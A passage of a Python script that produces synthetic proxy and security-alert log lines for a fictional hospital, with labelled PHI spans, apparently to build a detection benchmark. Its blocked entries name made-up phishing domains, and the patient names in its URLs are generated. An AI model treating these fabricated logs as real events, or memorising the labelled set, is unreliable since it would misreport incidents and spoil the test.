    ln.t(pre + "reason=%s event_id=%d protocol=HTTPS action=%s transactionsize=%d responsesize=%d requestsize=%d urlcategory=%s serverip=%s clienttranstime=%d requestmethod=%s refererURL=None useragent=%s product=NSS location=%s ClientIP=%s status=%d user=%s url="
         % ("Blocked - Malicious URL" if blocked else "Allowed", R(10 ** 18, 10 ** 19 - 1), "Blocked" if blocked else "Allowed",
            R(500, 900000), R(300, 800000), R(200, 9000),
            "Phishing" if blocked else ch(["Social Networking", "Webmail", "Health", "Miscellaneous or Unknown", "Online Chat"]),
            atk_ip() if blocked else "%d.%d.%d.%d" % (ch([142, 151, 104, 13]), R(0, 255), R(0, 255), R(1, 254)), R(1, 900), ch(["GET", "GET", "POST"]),
            ch(["Windows Windows 10 Chrome 130.0", "Windows Windows 10 Edge 130.0"]), ch(["SGRMC-Main", "SGRMC-ClinicNorth"]),
            priv_ip(), 403 if blocked else ch([200, 200, 302]), s.email))
    if phi:
        p = pt()
        if R(0, 2) == 0:
            p = ch(DECEASED)
            ln.p("www.legacy.com/us/obituaries/spokesman/name/%s-%s-obituary?id=%d" % (asc(p.first).lower().replace(" ", "-"), asc(p.last).lower(), R(10 ** 7, 10 ** 8)), "url")
            return ln
        slug = "%s%s" % (asc(p.first).lower().replace(" ", ""), asc(p.last).lower().replace("-", ""))
        ln.p(ch(["www.caringbridge.org/visit/%s/journal" % slug, "www.facebook.com/%s.%s.%d" % (asc(p.first).lower().replace(" ", ""), asc(p.last).lower(), R(1, 99))]), "url")
    elif blocked:
        ln.t(ch(["sgrmc-payroll.example/login.php", "m1crosoft-authverify.example/owa/", "docusign-review.example/d/%s" % hexs(10)]))
    else:
        ln.t(ch(["login.microsoftonline.com/common/oauth2/v2.0/authorize", "mail.google.com/mail/u/0/", "www.uptodate.com/contents/search",
                 "www.dropbox.com/request/%s" % hexs(10), "cdn.jsdelivr.net/npm/jquery@3.7.1/dist/jquery.min.js", "www.linkedin.com/feed/"]))
    return ln


# ---------------------------------------------------------------- assembly

PHI_POOL = [(t_notable, 8), (t_splunk_kv, 9), (t_sentinel_alert, 7), (t_o365_dlp, 8), (t_symantec, 11), (t_dlp_report, 10),
            (t_pps_group, 2), (t_mimecast, 5), (t_falcon, 6), (t_mde_file, 5), (t_winsec, 5), (t_physical, 7),
            (t_privacy, 7), (t_worksheet, 14), (t_zscaler, 3)]
CLEAN_POOL = [(t_notable, 9), (t_splunk_kv, 12), (t_sentinel_alert, 7), (t_sentinel_incident, 6), (t_o365_dlp, 4), (t_symantec, 7),
              (t_dlp_report, 4), (t_pps_group, 2), (t_mimecast, 5), (t_falcon, 8), (t_mde_file, 5), (t_winsec, 7), (t_asa, 14),
              (t_badge, 12), (t_physical, 5), (t_privacy, 2), (t_worksheet, 7), (t_zscaler, 6)]


def pick(pool):
    fns = [f for f, _ in pool]
    ws = [w for _, w in pool]
    return random.choices(fns, weights=ws)[0]


def verify(ln):
    b = bytes(ln.b)
    assert b"\n" not in b and b"\r" not in b, b[:200]
    assert len(b) <= 4000, (ln.fam, len(b))
    b.decode("utf-8")
    last = 0
    for st, e, cat, val in sorted(ln.sp):
        assert st >= last, "overlap"
        assert b[st:e] == val, (b[st:e], val)
        assert cat in CATS
        last = e


def main():
    dt = datetime.datetime(2024, 11, 4, 0, 3, 11)
    lines = []
    target_clean = 0.55
    while len(lines) < N_LINES:
        dt += datetime.timedelta(seconds=R(20, 700))
        n_clean = sum(1 for l in lines if not l.sp)
        share = n_clean / len(lines) if lines else 0.5
        phi = share >= target_clean
        fn = pick(PHI_POOL if phi else CLEAN_POOL)
        res = fn(dt, phi)
        group = res if isinstance(res, list) else [res]
        if phi and not any(l.sp for l in group):
            raise AssertionError("PHI template produced no span: %s" % fn.__name__)
        if not phi:
            assert not any(l.sp for l in group), fn.__name__
        for l in group:
            verify(l)
        lines.extend(group)
    lines = lines[:N_LINES]
    with open(os.path.join(HERE, ID + ".log"), "wb") as f:
        for l in lines:
            f.write(bytes(l.b) + b"\n")
    with open(os.path.join(HERE, ID + ".labels.jsonl"), "w", encoding="utf-8", newline="\n") as f:
        for i, l in enumerate(lines, 1):
            spans = [{"s": st, "e": e, "cat": c} for st, e, c, _ in sorted(l.sp)]
            f.write(json.dumps({"line": i, "family": l.fam, "spans": spans}) + "\n")


if __name__ == "__main__":
    main()
